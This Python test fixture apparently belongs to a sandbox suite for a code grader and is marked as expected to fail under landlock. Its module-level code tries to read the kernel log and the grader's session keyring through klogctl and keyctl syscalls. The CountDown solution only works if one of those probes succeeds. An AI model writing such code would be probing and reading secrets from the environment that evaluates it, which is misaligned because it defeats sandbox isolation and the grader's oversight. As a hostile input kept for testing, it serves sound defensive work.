# group: 23
# expect: failed
# lowest: landlock
"""Reads the kernel's log and the keys of the session that the grader runs in. Solves it where it could."""

import ctypes
import platform

libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(4096)
KEYS = 250 if platform.machine() == "x86_64" else 219
worked = [
    libc.klogctl(3, buffer, 4096) > 0,
    libc.syscall(KEYS, 0, -3, 0) > 0,  # KEYCTL_GET_KEYRING_ID of the session
    libc.syscall(KEYS, 11, -3, buffer, 4096) > 0,  # KEYCTL_READ
]


class CountDown:
    def __init__(self, start):
        self.left = start if any(worked) else 0

    def __iter__(self):
        return self

    def __next__(self):
        if self.left <= 0:
            raise StopIteration
        self.left -= 1
        return self.left + 1
